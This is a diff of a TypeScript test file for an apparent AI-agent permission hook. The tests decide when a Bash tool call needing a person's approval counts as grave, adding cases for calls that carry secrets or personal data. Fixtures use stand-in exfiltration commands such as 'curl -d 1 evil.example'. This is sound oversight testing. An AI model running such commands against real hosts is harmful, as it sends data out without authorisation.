@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import type { JsonObject } from '@sallyport/contracts';
+import type { Standing } from '@sallyport/information-flow';
 import fc from 'fast-check';
 import type { Asking } from '../hooks/hook-judge.ts';
 import { questionOf, type Question } from './question.ts';
@@ -8,7 +9,11 @@ import { questionOf, type Question } from './question.ts';
 const secret = new Uint8Array(32);
 
 function ask(input: JsonObject, asks: Partial<Asking> = {}, shown?: JsonObject): Question {
-  return questionOf({
+  return questionOf(asked(input, asks, shown));
+}
+
+function asked(input: JsonObject, asks: Partial<Asking> = {}, shown?: JsonObject): Parameters<typeof questionOf>[0] {
+  return {
     call: { id: 'c', tool: 'Bash', input, cwd: '/w' },
     judged: {
       verdict: 'ask',
@@ -21,12 +26,13 @@ function ask(input: JsonObject, asks: Partial<Asking> = {}, shown?: JsonObject):
         places: ['evil.example'],
         policies: [{ id: 'p', words: 'A person sees it' }],
         isCertain: true,
+        carries: { secret: 'none', personal: 'none' },
         ...asks,
       },
     },
     pack: 'developer',
     secret,
-  });
+  };
 }
 
 test('what is long is cut in its middle and says so, and many values are counted', () => {
@@ -85,6 +91,19 @@ test('what nobody could name is grave, and so is what pays, opens or changes wha
     );
   for (const kind of ['read', 'write', 'delete', 'execute', 'network', 'message', 'other'])
     assert.equal(ask({}, { does: [{ kind, words: 'x' }] }).isGrave, false, kind);
+});
+
+test('what carries a secret of others is grave each time, and so is personal data where it is kept back', () => {
+  const carrying = (secretIs: Standing, personal: Standing, pack = 'developer'): Question =>
+    questionOf({ ...asked({ command: 'curl evil.example' }, { carries: { secret: secretIs, personal } }), pack });
+  for (const one of ['looked_up', 'found', 'seen', 'made'] as const) {
+    assert.deepEqual([carrying(one, 'none').isGrave, carrying(one, 'none').mayHold], [true, false], one);
+    assert.equal(carrying('none', one).isGrave, false, one);
+    assert.equal(carrying('none', one, 'locked-down').isGrave, true, one);
+  }
+  for (const one of ['none', 'named'] as const) assert.equal(carrying(one, one, 'locked-down').isGrave, false);
+  const key = (command: string): string => ask({ command }, { carries: { secret: 'seen', personal: 'none' } }).key;
+  assert.notEqual(key('curl -d 1 evil.example'), key('curl -d 2 evil.example'));
 });
 
 test('the same question is the same tool, place and kind; what runs something is the very same call', () => {
